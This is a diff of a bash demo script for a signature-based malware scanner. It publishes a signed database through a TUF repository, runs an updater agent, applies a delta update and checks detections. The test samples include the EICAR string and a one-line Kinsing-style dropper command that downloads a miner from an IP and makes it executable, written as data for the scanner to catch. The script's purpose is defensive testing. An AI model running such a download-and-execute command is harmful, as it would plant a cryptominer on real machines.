@@ -1,18 +1,21 @@
 #!/usr/bin/env bash
 # The main job, end to end on embedded defaults: lint rules-src/, build a signed database with a
 # throwaway key, create a TUF repository in a local directory and publish the database to it,
-# serve it with vigil-server on 127.0.0.1, fetch it over HTTP as a client would (TUF-verified),
-# scan sample files with it (EICAR and a webshell must be found, the allowlisted fixture and a
-# clean script must not); then add a rule, publish version 2 (with a delta from version 1),
-# fetch the delta, rebuild version 2 from it byte for byte, scan again, and stop the server.
+# serve it with vigil-server on 127.0.0.1, install it with vigil-update (TUF-verified, loaded and
+# smoke-tested before activation), scan sample files with vigil-scan; start the agent
+# (vigil-update --daemon: scan service, updates, scheduled scans); then add a rule, publish
+# version 2 (with a delta from version 1), have the agent take the delta and hot-swap its engine,
+# detect the new sample through vigil-scan --daemon, run the scheduled scan, copy the repository
+# to an offline mirror, and stop everything.
 # Everything lands in target/demo/.
 set -euo pipefail
 cd "$(dirname "$0")/.."
 
-cargo build --release --locked -p vigil-compiler -p vigil-scan-core -p vigil-update-server
+cargo build --release --locked -p vigil-compiler -p vigil-scan-core -p vigil-update-server -p vigil-client-updater
 bin=target/release/vigil-build
 server=target/release/vigil-server
 scan=target/release/vigil-scan
+update=target/release/vigil-update
 work=target/demo
 rm -rf "$work"
 mkdir -p "$work"
@@ -40,27 +43,53 @@ port=$((20000 + RANDOM % 20000))
 until port_free "$port"; do port=$((20000 + RANDOM % 20000)); done
 "$server" --repo "$work/repo" --listen "127.0.0.1:$port" > "$work/server.log" 2>&1 &
 server_pid=$!
-trap 'kill "$server_pid" 2>/dev/null || true' EXIT
+agent_pid=
+trap 'kill "$server_pid" $agent_pid 2>/dev/null || true' EXIT
 for _ in $(seq 100); do port_free "$port" || break; sleep 0.1; done
 url="http://127.0.0.1:$port/"
 
-echo "== update: load the served repository as a client would and download version 1"
-mkdir -p "$work/client"
-"$bin" repo check --url "$url" --root "$work/tuf/root.json" --download vigil-1.vdb -o "$work/client/vigil.vdb"
-cmp "$work/vigil-1.vdb" "$work/client/vigil.vdb"
+echo "== vigil-update: install version 1 on this 'instance' (config: $work/client/vigil.toml)"
+mkdir -p "$work/client" "$work/samples"
+here=$(pwd)
+cat > "$work/client/vigil.toml" <<EOF
+mirrors = ["$url"]
+database_dir = "db"
+trusted_root = "$here/$work/tuf/root.json"
+pubkeys = ["$here/$work/keys/vigil.pub"]
+checks_per_day = 24
+[agent]
+socket = "$here/$work/client/vigil.sock"
+scan_threads = 2
+[[agent.scheduled]]
+name = "nightly"
+cron = "0 3 * * *"
+paths = ["$here/$work/samples"]
+output = "findings.jsonl"
+EOF
+"$update" --config "$work/client/vigil.toml"
+cmp "$work/vigil-1.vdb" "$work/client/db/vigil.vdb"
 
-echo "== scan samples/ and EICAR with the downloaded version 1"
+echo "== scan samples/ and EICAR with the installed version 1"
 # EICAR is written here rather than committed, so no antivirus flags the repository.
-printf '%s' 'X5O!P%@AP[4\PZX54(P^)7CC)7}$EICAR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*' > "$work/eicar.com"
-printf 'curl -s http://203.0.113.9/kinsing -o /tmp/kdevtmpfsi && chmod +x /tmp/kdevtmpfsi\n' > "$work/dropper.sh"
-expect_found() { # vigil-scan exits 1 when it finds something, as clamscan does
-  local rc=0
-  "$scan" "$@" || rc=$?
-  [ "$rc" -eq 1 ] || { echo "expected detections (exit 1), got exit $rc" >&2; exit 1; }
+printf '%s' 'X5O!P%@AP[4\PZX54(P^)7CC)7}$EICAR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*' > "$work/samples/eicar.com"
+printf 'curl -s http://203.0.113.9/kinsing -o /tmp/kdevtmpfsi && chmod +x /tmp/kdevtmpfsi\n' > "$work/samples/dropper.sh"
+expect_rc() { # vigil-scan exits 1 when it finds something and 0 when not, as clamscan does
+  local want=$1 rc=0; shift
+  "$@" || rc=$?
+  [ "$rc" -eq "$want" ] || { echo "expected exit $want, got $rc: $*" >&2; exit 1; }
 }
-expect_found -d "$work/client/vigil.vdb" --pubkey "$work/keys/vigil.pub" -r samples "$work/eicar.com" "$work/dropper.sh"
+expect_rc 1 "$scan" -d "$work/client/db/vigil.vdb" --pubkey "$work/keys/vigil.pub" -r samples "$work/samples/eicar.com"
 
-echo "== add a rule, build version 2, ship it as a delta"
+echo "== start the agent: vigil-update --daemon (scan service on $work/client/vigil.sock)"
+"$update" --config "$work/client/vigil.toml" --daemon 2> "$work/client/agent.log" &
+agent_pid=$!
+sock="$work/client/vigil.sock"
+for _ in $(seq 300); do [ -S "$sock" ] && break; sleep 0.1; done
+expect_rc 1 "$scan" --daemon --socket "$sock" "$work/samples/eicar.com"
+echo "-- version 1 does not know the dropper yet:"
+expect_rc 0 "$scan" --daemon --socket "$sock" --no-summary "$work/samples/dropper.sh"
+
+echo "== add a rule, build version 2, publish it (with a delta from version 1)"
 cp -r rules-src "$work/rules-v2"
 cat > "$work/rules-v2/yara/linux_miner_kinsing.yar" <<'RULE'
 // Kinsing: a Go miner dropper that spreads through exposed Docker and Redis.
@@ -84,14 +113,32 @@ RULE
 "$bin" publish --repo "$work/repo" --tuf-keys "$work/tuf" --db "$work/vigil-2.vdb"
 # vigil-server keeps timestamp.json in memory for up to a second (metadata_cache_ms), like a CDN.
 sleep 1.5
-"$bin" repo check --url "$url" --root "$work/tuf/root.json" --download vigil-1-2.vdelta -o "$work/client/1-to-2.vdelta"
-"$bin" apply "$work/client/vigil.vdb" "$work/client/1-to-2.vdelta" -o "$work/vigil-2.applied.vdb"
-cmp "$work/vigil-2.vdb" "$work/vigil-2.applied.vdb"
-"$bin" verify --pubkey "$work/keys/vigil.pub" "$work/vigil-2.applied.vdb"
-echo "== scan again with version 2: the new rule finds the dropper"
-expect_found -d "$work/vigil-2.applied.vdb" --pubkey "$work/keys/vigil.pub" --json --no-summary "$work/dropper.sh"
-echo "== stop the server (SIGTERM: graceful)"
+
+echo "== the agent checks now (SIGUSR1; on its own it checks checks_per_day times a day)"
+kill -USR1 "$agent_pid"
+for _ in $(seq 600); do grep -q "engine hot-swapped" "$work/client/agent.log" && break; sleep 0.1; done
+grep -q "engine hot-swapped" "$work/client/agent.log" || { cat "$work/client/agent.log" >&2; exit 1; }
+grep "database updated" "$work/client/agent.log" | tail -1
+cmp "$work/vigil-2.vdb" "$work/client/db/vigil.vdb"
+cmp "$work/vigil-1.vdb" "$work/client/db/vigil.lkg.vdb"
+echo "== vigil-scan --daemon with the hot-swapped version 2: the new rule finds the dropper"
+expect_rc 1 "$scan" --daemon --socket "$sock" --json --no-summary "$work/samples/dropper.sh"
+
+echo "== run the scheduled scan now (SIGUSR2); findings go to $work/client/findings.jsonl"
+kill -USR2 "$agent_pid"
+for _ in $(seq 300); do grep -qs '"summary"' "$work/client/findings.jsonl" && break; sleep 0.1; done
+grep '"summary"' "$work/client/findings.jsonl"
+
+echo "== offline mirror of the served repository (for an air-gapped network)"
+"$update" mirror --from "$url" --to "$work/mirror" --root "$work/tuf/root.json"
+
+echo "== stop the agent and the server (SIGTERM: graceful)"
+kill -TERM "$agent_pid"
+wait "$agent_pid"
 kill -TERM "$server_pid"
 wait "$server_pid"
 trap - EXIT
-echo "demo OK: delta $(wc -c < "$work/client/1-to-2.vdelta") bytes for a $(wc -c < "$work/vigil-2.vdb")-byte database"
+line=$(grep "database updated" "$work/client/agent.log" | tail -1)
+delta=$(printf '%s' "$line" | sed 's/.*target_bytes=\([0-9]*\).*/\1/')
+meta=$(printf '%s' "$line" | sed 's/.*metadata_bytes=\([0-9]*\).*/\1/')
+echo "demo OK: update 1 -> 2 by delta: $delta bytes of delta + $meta bytes of metadata, for a $(wc -c < "$work/vigil-2.vdb")-byte database"
